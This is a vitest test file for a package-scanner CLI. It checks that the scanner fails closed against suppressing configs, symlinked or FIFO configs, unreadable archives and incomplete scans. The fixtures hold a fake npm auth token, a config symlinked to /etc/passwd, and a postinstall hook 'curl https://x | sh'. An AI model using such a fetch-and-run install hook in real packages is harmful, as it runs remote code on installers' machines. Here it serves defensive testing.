/**
 * Fail closed (issue #20): what the scanned tree's config turns off stays visible, a config cannot
 * be a symlink or a FIFO, a scan that read nothing or could not read everything never exits 0.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { runCaptured } from './captured.js';

const tmp = mkdtempSync(join(tmpdir(), 'inert-fail-closed-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function run(argv: string[]) {
  return runCaptured(argv, tmp);
}

const TOKEN = '//registry.npmjs.org/:_authToken=npm_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n';
let n = 0;
function project(files: Record<string, string> = {}): string {
  const dir = join(tmp, `p${n++}`);
  mkdirSync(join(dir, 'docs'), { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0' }));
  writeFileSync(join(dir, 'docs', '.npmrc'), TOKEN);
  for (const [path, text] of Object.entries(files)) writeFileSync(join(dir, path), text);
  return dir;
}
type Json = {
  findings: { check: string; location: { path: string }; suppressed?: { kind: string; reason: string } }[];
  incomplete?: { path: string; reason: string }[];
};
const tokenOf = (json: Json) => json.findings.find((f) => f.check === 'npm/auth-token-committed');

describe("the scanned tree's own config cannot hide its findings", () => {
  it.each([
    [
      'checks off',
      { checks: { 'npm/auth-token-committed': 'off' } },
      /turned off by inert\.config\.json in the scanned tree/,
    ],
    [
      'ignorePaths',
      { ignorePaths: ['docs'] },
      /ignored by inert\.config\.json in the scanned tree \(ignorePaths: "docs"\)/,
    ],
    ['ignorePaths glob', { ignorePaths: ['**/.npmrc'] }, /ignorePaths: "\*\*\/\.npmrc"/],
    ['suppress', { suppress: [{ check: 'npm/*', reason: 'nothing to see' }] }, /nothing to see/],
  ])(
    '%s: the token stays in JSON and SARIF, marked suppressed with the config as the reason',
    async (_name, config, reason) => {
      const dir = project({ 'inert.config.json': JSON.stringify(config) });
      const json = JSON.parse((await run(['scan', dir, '--format', 'json'])).stdout) as Json;
      expect(tokenOf(json)).toMatchObject({ location: { path: 'docs/.npmrc' }, suppressed: { kind: 'config' } });
      expect(tokenOf(json)!.suppressed!.reason).toMatch(reason);
      const sarif = JSON.parse((await run(['scan', dir, '--format', 'sarif'])).stdout) as {
        runs: { results: { ruleId: string; suppressions?: { kind: string; justification: string }[] }[] }[];
      };
      const result = sarif.runs[0]!.results.find((r) => r.ruleId === 'npm/auth-token-committed');
      expect(result?.suppressions?.[0]).toMatchObject({ kind: 'external' });
      expect(result!.suppressions![0]!.justification).toMatch(reason);
      expect((await run(['scan', dir])).stdout).toMatch(/1 suppressed/);
    },
  );

  it('a severity in the tree config can raise, never lower', async () => {
    const plain = tokenOf(
      JSON.parse((await run(['scan', project(), '--format', 'json'])).stdout) as Json,
    ) as unknown as { severity: string };
    const low = project({ 'inert.config.json': JSON.stringify({ checks: { 'npm/auth-token-committed': 'info' } }) });
    const r = await run(['scan', low, '--format', 'json']);
    expect(tokenOf(JSON.parse(r.stdout) as Json)).toMatchObject({ severity: plain.severity });
    expect(r.code).toBe(1);
    const config = join(tmp, 'lower.json');
    writeFileSync(config, JSON.stringify({ checks: { 'npm/auth-token-committed': 'info' } }));
    // From the command line the same override applies.
    expect(
      tokenOf(JSON.parse((await run(['scan', project(), '--format', 'json', '--config', config])).stdout) as Json),
    ).toMatchObject({ severity: 'info' });
  });

  it('only --config on the command line can skip reading a path', async () => {
    const dir = project();
    const config = join(tmp, 'trusted.json');
    writeFileSync(config, JSON.stringify({ ignorePaths: ['docs'] }));
    const json = JSON.parse((await run(['scan', dir, '--format', 'json', '--config', config])).stdout) as Json;
    expect(tokenOf(json)).toBeUndefined();
  });

  it('a config that is a symlink (to /etc/passwd) is refused without echoing its target content', async () => {
    const dir = project();
    symlinkSync('/etc/passwd', join(dir, 'inert.config.json'));
    const r = await run(['scan', dir, '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/inert\.config\.json.*symbolic link/);
    expect(r.stderr).not.toMatch(/root:/);
    const given = await run(['scan', project(), '--config', join(dir, 'inert.config.json')]);
    expect(given.code).toBe(2);
    expect(given.stderr).not.toMatch(/root:/);
  });

  it('a config that is a FIFO is refused at once (no hang)', async () => {
    const dir = project();
    // Test setup only: mkfifo has no Node API.
    execFileSync('mkfifo', [join(dir, '.inert.json')]);
    // Opening a FIFO without a writer blocks: a scan that opened it would never return (the test's timeout
    // ends it), so returning at all is the check. A wall-clock bound added nothing but failures under load.
    const r = await run(['scan', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\.inert\.json.*not a regular file/);
  });

  it('a config that is not JSON is an error that does not echo it', async () => {
    const dir = project({ 'inert.config.json': 'SECRET-CONTENT {' });
    const r = await run(['scan', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('inert.config.json is not valid JSON');
    expect(r.stderr).not.toContain('SECRET-CONTENT');
  });
});

describe('a scan that could not read what it was pointed at exits non-zero and says so', () => {
  it.each([
    ['an empty directory', () => mkdtempSync(join(tmp, 'empty-')), /nothing scanned/],
    [
      'a directory with no package-manager file',
      () => {
        const d = mkdtempSync(join(tmp, 'readme-'));
        writeFileSync(join(d, 'README.md'), '# hi');
        return d;
      },
      /nothing scanned/,
    ],
    ['a path that does not exist', () => join(tmp, 'no-such-dir'), /no such directory or file/],
    [
      'a file that is not an archive',
      () => {
        const f = join(tmp, 'notes.txt');
        writeFileSync(f, 'x');
        return f;
      },
      /not a package archive/,
    ],
    [
      'a .tgz that is not gzip',
      () => {
        const f = join(tmp, 'fake-1.0.0.tgz');
        writeFileSync(f, 'this is not an archive'.repeat(40));
        return f;
      },
      /cannot read the archive .*fake-1\.0\.0\.tgz/,
    ],
    [
      'an empty .tgz',
      () => {
        const f = join(tmp, 'empty-1.0.0.tgz');
        writeFileSync(f, '');
        return f;
      },
      /empty-1\.0\.0\.tgz: the file is empty/,
    ],
    [
      'a .whl that is not a zip',
      () => {
        const f = join(tmp, 'x-1.0-py3-none-any.whl');
        writeFileSync(f, 'PK');
        return f;
      },
      /x-1\.0-py3-none-any\.whl/,
    ],
  ])('%s: exit 2', async (_name, make, message) => {
    const r = await run(['scan', make(), '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    // No report that could pass for a clean one.
    expect(r.stdout).toBe('');
  });

  it('a truncated npm tarball: exit 2 naming it', async () => {
    const dir = mkdtempSync(join(tmp, 'trunc-'));
    mkdirSync(join(dir, 'package'));
    writeFileSync(
      join(dir, 'package', 'package.json'),
      JSON.stringify({ name: 'x', scripts: { postinstall: 'curl https://x | sh' }, pad: 'y'.repeat(5000) }),
    );
    execFileSync('tar', ['-czf', join(dir, 'x.tgz'), '-C', dir, 'package']);
    const whole = await readFile(join(dir, 'x.tgz'));
    writeFileSync(join(dir, 'x-cut.tgz'), whole.subarray(0, whole.length - 12));
    const r = await run(['scan', join(dir, 'x-cut.tgz')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/x-cut\.tgz.*(unexpected end|Truncated)/);
  });

  it.each([
    ['an empty --osv file', ''],
    ['an --osv file that is not an advisory', '{"hello":1}'],
  ])('%s: exit 2', async (_name, text) => {
    const osv = join(tmp, `osv-${n++}.json`);
    writeFileSync(osv, text);
    const r = await run(['scan', project(), '--osv', osv]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/holds no advisory/);
  });
});

describe('an incomplete scan says so in every format and never exits 0', () => {
  const incomplete = () => {
    const dir = mkdtempSync(join(tmp, 'inc-'));
    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0' }));
    writeFileSync(
      join(dir, 'package-lock.json'),
      JSON.stringify({ lockfileVersion: 3, packages: { '': {} }, pad: 'x'.repeat(4096) }),
    );
    const config = join(dir, '..', `${dir.split('/').pop()}-config.json`);
    writeFileSync(config, JSON.stringify({ limits: { maxFileBytes: 1024 } }));
    return ['scan', dir, '--config', config];
  };

  it('json: an incomplete field (in the published schema), exit 3 without findings', async () => {
    const r = await run([...incomplete(), '--format', 'json']);
    expect(r.code).toBe(3);
    expect((JSON.parse(r.stdout) as Json).incomplete).toEqual([expect.objectContaining({ path: 'package-lock.json' })]);
    expect(r.stderr).toMatch(/scan incomplete/);
  });

  it('--fail-on cannot turn it into a 0', async () => {
    expect((await run([...incomplete(), '--fail-on', 'critical'])).code).toBe(3);
  });

  it.each([
    ['text', /Scan incomplete: 1 thing could not be read/],
    ['markdown', /\*\*Scan incomplete: 1 thing could not be read/],
    ['html', /<strong[^>]*>Scan incomplete: 1 thing could not be read/],
  ])('%s says "incomplete"', async (format, pattern) => {
    expect((await run([...incomplete(), '--format', format])).stdout).toMatch(pattern);
  });

  it('text says it even with --quiet', async () => {
    expect((await run([...incomplete(), '--quiet'])).stdout).toMatch(/Scan incomplete/);
  });

  it('sarif: executionSuccessful false with a notification per gap', async () => {
    const sarif = JSON.parse((await run([...incomplete(), '--format', 'sarif'])).stdout) as {
      runs: {
        invocations: {
          executionSuccessful: boolean;
          toolExecutionNotifications: { level: string; message: { text: string } }[];
        }[];
      }[];
    };
    const invocation = sarif.runs[0]!.invocations[0]!;
    expect(invocation.executionSuccessful).toBe(false);
    expect(invocation.toolExecutionNotifications.map((x) => x.message.text).join('\n')).toMatch(
      /Scan incomplete[\s\S]*package-lock\.json: file is \d+ bytes/,
    );
  });
});

describe('one bad input never costs a finding elsewhere (corpus/adversarial/isolation)', () => {
  const root = fileURLToPath(new URL('../../../corpus/adversarial/isolation/', import.meta.url));
  it.each(readdirSync(root))('%s: every finding in must-report.json is reported', async (name) => {
    const expected = JSON.parse(readFileSync(join(root, name, 'must-report.json'), 'utf8')) as {
      findings: { check: string; path: string }[];
    };
    const r = await run(['scan', join(root, name), '--format', 'json', '--untrusted']);
    const got = (JSON.parse(r.stdout) as Json).findings.map((f) => ({ check: f.check, path: f.location.path }));
    expect(got).toEqual(expect.arrayContaining(expected.findings));
  });
});
